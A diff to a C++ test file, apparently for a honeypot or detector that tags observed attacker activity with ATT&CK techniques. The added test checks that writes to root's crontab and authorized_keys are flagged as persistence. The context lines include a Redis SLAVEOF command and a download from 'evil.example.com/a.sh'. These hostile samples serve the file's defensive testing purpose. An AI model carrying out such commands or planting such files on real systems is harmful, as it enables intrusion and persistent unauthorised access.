@@ -117,6 +117,15 @@ TEST_CASE("any shell command is command execution; cron, keys and modules are na
   CHECK(found("SLAVEOF 203.0.113.9 6379", "redis") == Tags{"attack:T1059"});
 }
 
+TEST_CASE("a file left where cron or sshd reads it is what it is for") {
+  auto file = observation(kSource, Kind::file);
+  CHECK(tags(conclude(std::vector{file.set(Field::file_name, "/var/spool/cron/root")}, {}, {"command_execution"})) ==
+        Tags{"attack:T1053.003"});
+  CHECK(tags(conclude(std::vector{file.set(Field::file_name, "/root/.ssh/authorized_keys")}, {},
+                      {"command_execution"})) == Tags{"attack:T1098.004"});
+  CHECK(tags(conclude(std::vector{file.set(Field::file_name, "/tmp/x")}, {}, {"command_execution"})) == Tags{});
+}
+
 TEST_CASE("a download asked for and a file left behind say something about the visitor too") {
   auto download = observation(kSource, Kind::download);
   download.set(Field::url, "http://evil.example.com/a.sh");
